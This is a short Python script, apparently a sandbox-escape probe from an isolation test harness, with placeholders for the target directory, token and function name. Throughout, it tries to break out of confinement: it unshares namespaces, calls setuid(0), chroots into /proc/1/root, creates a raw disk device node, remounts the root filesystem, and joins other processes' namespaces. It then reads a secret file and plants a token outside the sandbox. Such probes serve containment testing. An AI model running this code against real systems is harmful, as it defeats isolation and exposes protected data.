# Tries new namespaces, mounts, chroot and other users for a way out.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10000000 | 0x00020000, 0x40000000, 0x20000000):
    try: libc.unshare(flags)
    except BaseException: pass
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/proc/1/root"), lambda: os.mknod("/tmp/disk", 0o060666, os.makedev(8, 0))):
    try: call()
    except BaseException: pass
libc.mount(b"proc", b"/proc", b"proc", 0, None)
libc.mount(b"/", b"/tmp", None, 4096, None)
for number in range(1, 20):
    for kind in ("mnt", "pid", "user", "net"):
        try: libc.setns(os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY), 0)
        except BaseException: pass
for root in ("", "/tmp", "/proc/1/root"):
    try: print(open(root + QA_DIRECTORY + "/secret").read(), flush=True)
    except BaseException: pass
    try: open(root + QA_DIRECTORY + "/" + QA_TOKEN, "w").close()
    except BaseException: pass
def QA_FUNCTION(*args):
    return None
